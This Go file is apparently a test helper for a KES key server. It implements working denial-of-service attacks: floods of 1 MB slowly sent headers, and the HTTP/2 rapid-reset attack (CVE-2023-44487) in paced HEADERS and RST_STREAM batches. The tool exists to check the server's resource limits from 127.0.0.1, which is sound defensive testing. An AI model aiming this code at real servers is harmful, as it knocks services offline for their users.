// Command kesattack attacks a KES server from 127.0.0.1 with an identity
// the server does not know, for the resource-exhaustion tests of cmd/kes
// (attack_test.go), which build it without the race detector and run it
// at a low priority:
//
//	kesattack '{"Kind":"headers","Conns":200,"Addr":"127.0.0.1:7373","Roots":"server.crt"}'
//
// Kind "headers": each of Conns attackers sends requests with 1 MB of
// headers; "reset": each opens HTTP/2 streams and resets them at once
// (rapid reset, CVE-2023-44487). It writes "ready" once every attacker has
// done its first harm, runs until its standard input ends, and then writes
// its counts as a JSON object.
package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/openkes/kes"
)

func main() {
	if len(os.Args) != 2 {
		fmt.Fprintln(os.Stderr, "usage: kesattack <JSON spec>")
		os.Exit(2)
	}
	if err := attacker(os.Args[1], os.Stdin, os.Stdout); err != nil {
		fmt.Fprintln(os.Stderr, "kesattack:", err)
		os.Exit(1)
	}
}

// attackSpec says what an attacker process does.
type attackSpec struct {
	Kind  string // "headers" or "reset"
	Conns int    // attackers running at once
	Addr  string // the server
	Roots string // the server's certificate file
}

// The attackers' pace: the same offered load for the server with and
// without the limits, so that the figures compare, and no more than the
// shared test machine can generate without starving the server itself.
const (
	// headerPace: each header attacker opens a connection at most this
	// often, and sends its 1 MB in 16 KB chunks 25 ms apart, which takes
	// 1.6 s (200 attackers: 100 connections and 100 MB a second, and up
	// to 200 MB in flight).
	headerPace      = 2 * time.Second
	headerChunk     = 16 << 10
	headerChunkPace = 25 * time.Millisecond
	// resetBatch streams every resetPace per rapid-reset connection
	// (4 connections: 80,000 streams a second, about what the server
	// without the limits could take).
	resetBatch = 64
	resetPace  = 3200 * time.Microsecond
)

func attacker(specJSON string, stop io.Reader, out io.Writer) error {
	var spec attackSpec
	if err := json.Unmarshal([]byte(specJSON), &spec); err != nil {
		return err
	}
	pem, err := os.ReadFile(spec.Roots)
	if err != nil {
		return err
	}
	roots := x509.NewCertPool()
	roots.AppendCertsFromPEM(pem)
	key, err := kes.GenerateAPIKey(nil) // an identity the server does not know
	if err != nil {
		return err
	}
	cert, err := kes.GenerateCertificate(key, nil)
	if err != nil {
		return err
	}
	conf := &tls.Config{RootCAs: roots, Certificates: []tls.Certificate{cert}}
	var run func(ctx context.Context, a *attackRun)
	switch spec.Kind {
	case "headers":
		conf.NextProtos = []string{"http/1.1"}
		run = headerAttack
	case "reset":
		conf.NextProtos = []string{"h2"}
		run = resetAttack
	default:
		return fmt.Errorf("unknown attack %q", spec.Kind)
	}
	ctx, cancel := context.WithCancel(context.Background())
	go func() { io.Copy(io.Discard, stop); cancel() }()
	a := &attackRun{addr: spec.Addr, conf: conf, counts: map[string]int{}}
	var wg, ready sync.WaitGroup
	ready.Add(spec.Conns)
	for range spec.Conns {
		var once sync.Once
		wg.Go(func() {
			defer once.Do(ready.Done)
			run(ctx, &attackRun{addr: a.addr, conf: a.conf, counts: map[string]int{}, started: func() { once.Do(ready.Done) }, parent: a})
		})
	}
	ready.Wait()
	fmt.Fprintln(out, "ready")
	wg.Wait()
	return json.NewEncoder(out).Encode(a.counts)
}

// attackRun is one attacker's view: where to attack, and its counts,
// added to its parent's when it ends.
type attackRun struct {
	addr    string
	conf    *tls.Config
	started func()
	parent  *attackRun

	mu     sync.Mutex
	counts map[string]int
}

func (a *attackRun) count(what string, n int) {
	a.mu.Lock()
	a.counts[what] += n
	a.mu.Unlock()
}

func (a *attackRun) done() {
	for k, v := range a.counts {
		a.parent.count(k, v)
	}
}

func (a *attackRun) dial(ctx context.Context) (net.Conn, error) {
	nd := &net.Dialer{LocalAddr: &net.TCPAddr{IP: net.IPv4(127, 0, 0, 1)}, Timeout: 5 * time.Second}
	d := &tls.Dialer{NetDialer: nd, Config: a.conf}
	return d.DialContext(ctx, "tcp", a.addr)
}

// wait waits for the next tick or the end of ctx.
func wait(ctx context.Context, t *time.Ticker) {
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}

// headerAttack opens a connection every headerPace and sends a request
// with 1 MB of headers on it, headerChunk bytes every headerChunkPace, so
// that all attackers' headers are in flight at once; it counts the
// answers.
func headerAttack(ctx context.Context, a *attackRun) {
	defer a.done()
	const size = 1 << 20
	line := "X-Padding: " + strings.Repeat("a", 1000) + "\r\n"
	var headers bytes.Buffer
	headers.WriteString("GET /v1/key/describe/legit HTTP/1.1\r\nHost: " + a.addr + "\r\n")
	for headers.Len()+len(line) < size-4096 {
		headers.WriteString(line)
	}
	headers.WriteString("\r\n")
	h := headers.Bytes()
	pace := time.NewTicker(headerPace)
	defer pace.Stop()
	chunkPace := time.NewTicker(headerChunkPace)
	defer chunkPace.Stop()
	for ; ctx.Err() == nil; wait(ctx, pace) {
		c, err := a.dial(ctx)
		if err != nil {
			a.count("dial failed", 1)
			continue
		}
		stop := context.AfterFunc(ctx, func() { c.Close() })
		var werr error
		for off := 0; off < len(h) && werr == nil && ctx.Err() == nil; off += headerChunk {
			_, werr = c.Write(h[off:min(off+headerChunk, len(h))])
			a.started()
			wait(ctx, chunkPace)
		}
		c.SetReadDeadline(time.Now().Add(5 * time.Second))
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		switch {
		case err == nil:
			a.count(resp.Status, 1)
		case werr != nil:
			a.count("write cut", 1)
		default:
			a.count("no answer", 1)
		}
		stop()
		c.Close()
	}
}

// resetAttack opens HTTP/2 connections and sends resetBatch streams
// (HEADERS, then RST_STREAM at once) every resetPace, reconnecting when the
// server ends a connection. It counts the streams sent and the
// connections the server ended.
func resetAttack(ctx context.Context, a *attackRun) {
	defer a.done()
	pace := time.NewTicker(resetPace)
	defer pace.Stop()
	for ctx.Err() == nil {
		n, err := rapidReset(ctx, a, pace)
		a.count("streams", n)
		if err != nil && ctx.Err() == nil {
			a.count("ended", 1)
		}
	}
}

// rapidReset runs one connection of resetAttack; it returns the streams
// sent and why the connection ended.
func rapidReset(ctx context.Context, a *attackRun, pace *time.Ticker) (int, error) {
	c, err := a.dial(ctx)
	if err != nil {
		return 0, err
	}
	stop := context.AfterFunc(ctx, func() { c.Close() })
	defer stop()
	// Read and drop what the server sends, so that it never blocks on
	// writing, which is the attack at its worst.
	read := make(chan struct{})
	go func() { io.Copy(io.Discard, c); close(read) }()
	defer func() { c.Close(); <-read }()

	w := bufio.NewWriter(c)
	if _, err := w.WriteString(http2.ClientPreface); err != nil {
		return 0, err
	}
	fr := http2.NewFramer(w, nil)
	if err := fr.WriteSettings(); err != nil {
		return 0, err
	}
	if err := fr.WriteSettingsAck(); err != nil {
		return 0, err
	}
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, f := range [][2]string{{":method", "GET"}, {":scheme", "https"}, {":authority", a.addr}, {":path", "/v1/key/describe/legit"}} {
		if err := enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}); err != nil {
			return 0, err
		}
	}
	n := 0
	for id := uint32(1); ctx.Err() == nil; id += 2 {
		err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true})
		if err == nil {
			err = fr.WriteRSTStream(id, http2.ErrCodeCancel)
		}
		if err == nil && id%(2*resetBatch) == 2*resetBatch-1 {
			err = w.Flush()
			a.started()
			wait(ctx, pace)
		}
		if err != nil {
			return n, err
		}
		n++
	}
	return n, errors.New("stopped")
}
